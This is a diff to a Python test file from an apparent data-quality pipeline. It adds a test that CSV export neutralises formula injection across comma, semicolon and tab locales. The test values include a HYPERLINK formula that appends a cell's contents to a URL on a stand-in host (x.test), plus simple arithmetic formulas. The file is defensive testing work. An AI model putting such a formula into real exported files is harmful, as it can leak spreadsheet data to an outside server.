@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import io
 import logging
 from collections import Counter
 from pathlib import Path
@@ -16,6 +17,8 @@ from etl.quality.queries import (
     COLUMNS,
     DRAFT_BATCH,
     UnknownCentre,
+    _write_csv,
+    _written,
     open_issues_by_centre,
     spreadsheet_text,
     write_centre_queries,
@@ -117,3 +120,21 @@ def test_an_earlier_run_and_the_centre_counts(warehouse, tmp_path):
     assert sorted(r[7] for r in rows) == ["DIAG-ICDO3-TOPOGRAPHY", *["LATERALITY-PAIRED"] * 3]
     counts = Counter(i.centre_id for i in issues_of(3) if i.centre_id)
     assert open_issues_by_centre(warehouse) == {"FR-NAN03": 0, **counts}
+
+
+def test_a_formula_after_a_separator_or_line_break_inside_a_value_is_text_whatever_separator_opens_the_csv(
+        tmp_path):
+    """Excel and LibreOffice in a `;` locale (or told to split on tabs) start a cell after every `;` or tab of
+    a line, and a row after every line break, quoted or not: a formula starting there runs (LibreOffice
+    7.4 ran `x;=1+1;y` as =1+1) unless it too is made text."""
+    values = ["x;=1+1;y", 'ok;=HYPERLINK("http://x.test/?"&A1,"semi")', "x\t-2+3\ty", "a,@SUM(1)",
+              "line\n=1+2", "line\r\n+1", 'x;"=1+3";y', "-2+3", "x;1-2;y", "C71.9"]
+    path = tmp_path / "queries.csv"
+    _write_csv(path, [["P-0001", _written(value), "Q1"] for value in values])
+    text = path.read_bytes().decode("utf-8-sig")
+    for delimiter in (",", ";", "\t"):  # how the spreadsheet of each locale splits the file
+        cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]
+        assert not [cell for cell in cells if cell.startswith(FORMULA_START)], delimiter
+    shown = [row[1] for row in _csv_rows(path)[1:]]
+    assert [s.replace("'", "") for s in shown] == values  # only a ' before each formula start is added
+    assert shown[-2:] == ["x;1-2;y", "C71.9"]  # text with no formula start is written as it is
